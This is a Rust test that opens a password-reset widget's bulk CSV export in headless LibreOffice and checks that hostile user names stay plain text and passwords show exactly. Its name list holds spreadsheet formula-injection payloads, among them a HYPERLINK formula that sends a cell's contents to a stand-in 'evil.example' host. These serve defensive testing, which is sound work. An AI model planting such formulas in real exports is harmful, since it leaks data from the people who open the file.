//! The bulk CSV opened in a real spreadsheet (native, `cargo test`): the
//! widget's own `csv` for thousands of generated passwords and hostile names,
//! converted by LibreOffice Calc (`soffice --headless --convert-to fods`, as
//! a user's "open" would import it, formulas evaluated), and each cell read
//! back from the flat ODF file. No cell is a formula but the passwords'
//! `="…"`, and each password cell shows the password exactly as issued.
//! `scripts/setup.sh test` installs LibreOffice (Debian's
//! `libreoffice-calc-nogui`); without it this test fails and says so.
#![cfg(not(target_arch = "wasm32"))]

use std::path::Path;
use std::process::Command;

use password_reset_widget::core::bulk::csv;
use password_reset_widget::core::generator::{
    generate, CharacterOptions, ClassRule, GeneratorOptions, PassphraseOptions,
};
use password_reset_widget::core::random::OsRandom;

const NAMES: [&str; 12] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "\t=1+1",
    "\r@SUM(A1)",
    "\n=1",
    "+1",
    "-2+3",
    "@cmd",
    "  =1+1",
    "＝1+1",
    "Prescott, Diane",
    "O\"Brien",
    "Åsa Öberg",
];

/// One cell as Calc holds it: its formula, if any, its type and the text it shows.
#[derive(Debug)]
struct Cell {
    formula: Option<String>,
    value_type: String,
    shown: String,
}

/// The text a cell shows: `office:string-value` for a formula's text, else its
/// paragraphs (spaces, tabs and line breaks are elements in ODF).
fn shown_text(cell: roxmltree::Node) -> String {
    if let Some(value) = cell.attribute((
        "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
        "string-value",
    )) {
        return value.to_string();
    }
    let mut paragraphs = Vec::new();
    for p in cell.children().filter(|n| n.tag_name().name() == "p") {
        let mut text = String::new();
        for node in p.descendants().skip(1) {
            match node.tag_name().name() {
                "" => text.push_str(node.text().unwrap_or("")),
                "s" => {
                    let n = node.attribute(("urn:oasis:names:tc:opendocument:xmlns:text:1.0", "c"));
                    text.push_str(&" ".repeat(n.map_or(1, |n| n.parse().unwrap())));
                }
                "tab" => text.push('\t'),
                "line-break" => text.push('\n'),
                _ => {}
            }
        }
        paragraphs.push(text);
    }
    paragraphs.join("\n")
}

fn sheet_rows(fods: &str) -> Vec<Vec<Cell>> {
    const TABLE: &str = "urn:oasis:names:tc:opendocument:xmlns:table:1.0";
    const OFFICE: &str = "urn:oasis:names:tc:opendocument:xmlns:office:1.0";
    let doc = roxmltree::Document::parse(fods).expect("LibreOffice wrote well-formed XML");
    let mut rows = Vec::new();
    for row in doc
        .descendants()
        .filter(|n| n.has_tag_name((TABLE, "table-row")))
    {
        let mut cells = Vec::new();
        for cell in row
            .children()
            .filter(|n| n.has_tag_name((TABLE, "table-cell")))
        {
            let repeat: usize = cell
                .attribute((TABLE, "number-columns-repeated"))
                .map_or(1, |n| n.parse().unwrap());
            let value_type = cell
                .attribute((OFFICE, "value-type"))
                .unwrap_or("")
                .to_string();
            if value_type.is_empty() {
                continue; // an empty cell (Calc pads rows with them)
            }
            for _ in 0..repeat {
                cells.push(Cell {
                    formula: cell.attribute((TABLE, "formula")).map(str::to_string),
                    value_type: value_type.clone(),
                    shown: shown_text(cell),
                });
            }
        }
        assert!(
            row.attribute((TABLE, "number-rows-repeated")).is_none(),
            "no two rows are the same"
        );
        rows.push(cells);
    }
    rows
}

fn convert_with_libreoffice(dir: &Path, csv_file: &Path) -> String {
    let profile = dir.join("profile");
    let status = Command::new("soffice")
        .arg(format!(
            "-env:UserInstallation=file://{}",
            profile.display()
        ))
        .args(["--headless", "--norestore"])
        // Comma-separated, `"`-quoted, UTF-8, from line 1: what the widget writes.
        .args([
            "--infilter=CSV:44,34,76,1",
            "--convert-to",
            "fods",
            "--outdir",
        ])
        .arg(dir)
        .arg(csv_file)
        .output()
        .unwrap_or_else(|e| {
            panic!("LibreOffice (soffice) is needed: `scripts/setup.sh test` installs it ({e})")
        });
    let fods = dir.join("passwords.fods");
    assert!(
        status.status.success() && fods.exists(),
        "soffice failed: {}",
        String::from_utf8_lossy(&status.stderr)
    );
    std::fs::read_to_string(fods).unwrap()
}

#[test]
fn libreoffice_shows_every_password_exactly_and_runs_nothing() {
    let mut rng = OsRandom;
    let symbol_heavy = CharacterOptions {
        length: 12,
        symbols: ClassRule {
            enabled: true,
            min: 8,
        },
        ..CharacterOptions::default()
    };
    let digits_only = CharacterOptions {
        lowercase: ClassRule::OFF,
        uppercase: ClassRule::OFF,
        symbols: ClassRule::OFF,
        ..CharacterOptions::default()
    };
    let options = [
        GeneratorOptions::Characters(CharacterOptions::default()),
        GeneratorOptions::Characters(symbol_heavy),
        GeneratorOptions::Characters(digits_only),
        GeneratorOptions::Passphrase(PassphraseOptions::default()),
    ];
    let mut passwords: Vec<String> = options
        .iter()
        .flat_map(|o| std::iter::repeat_n(o, 1000))
        .map(|o| generate(o, &mut rng).unwrap().password.expose().to_string())
        .collect();
    passwords
        .extend(["=1+1", "-x", "+5", "@SUM(A1)", "0012", "1/2", "1e5", "a\"b"].map(String::from));
    passwords.push("=\"".repeat(300));
    passwords.sort();
    passwords.dedup();
    let users: Vec<(String, String, String)> = passwords
        .iter()
        .enumerate()
        .map(|(i, p)| {
            let id = if i % 7 == 0 {
                format!("-{i}")
            } else {
                format!("u-{i}")
            };
            (id, NAMES[i % NAMES.len()].to_string(), p.clone())
        })
        .collect();
    let text = csv(users
        .iter()
        .map(|(id, name, p)| (id.as_str(), name.as_str(), p.as_str())));

    let dir = tempfile_dir();
    let csv_file = dir.join("passwords.csv");
    std::fs::write(&csv_file, &text).unwrap();
    let rows = sheet_rows(&convert_with_libreoffice(&dir, &csv_file));
    let _ = std::fs::remove_dir_all(&dir);

    assert_eq!(rows.len(), users.len() + 1, "a header and one row per user");
    let header: Vec<&str> = rows[0].iter().map(|c| c.shown.as_str()).collect();
    assert_eq!(header, ["user id", "name", "password"]);
    for (row, (id, name, _)) in rows[1..].iter().zip(&users) {
        assert_eq!(row.len(), 3, "{row:?}");
        for (cell, value) in row[..2].iter().zip([id, name]) {
            // Calc reads a CR inside a quoted field as a line break.
            let value = value.replace('\r', "\n");
            assert_eq!(cell.formula, None, "{value:?} became a formula");
            assert_eq!(cell.value_type, "string", "{value:?}");
            assert!(
                cell.shown == value || cell.shown.strip_prefix('\'') == Some(value.as_str()),
                "{value:?} shows as {:?}",
                cell.shown
            );
        }
    }
    let changed: Vec<String> = rows[1..]
        .iter()
        .zip(&users)
        .filter(|(row, (_, _, password))| {
            row[2].shown != *password || row[2].value_type != "string"
        })
        .map(|(row, (_, _, password))| format!("{password:?} shows as {:?}", row[2]))
        .collect();
    let first = &changed[..changed.len().min(20)];
    assert!(
        changed.is_empty(),
        "{} passwords changed: {first:#?}",
        changed.len()
    );
    // The one kind of formula in the file: the passwords' `="…"`.
    for (row, (_, _, password)) in rows[1..].iter().zip(&users) {
        let formula = row[2].formula.as_deref().unwrap_or("");
        assert!(
            formula.starts_with("of:=\""),
            "password {password:?} is in {:?}",
            row[2]
        );
    }
}

/// A fresh directory under the system's temporary one.
fn tempfile_dir() -> std::path::PathBuf {
    let dir = std::env::temp_dir().join(format!(
        "reset-widget-csv-{}-{}",
        std::process::id(),
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_nanos()
    ));
    std::fs::create_dir_all(&dir).unwrap();
    dir
}
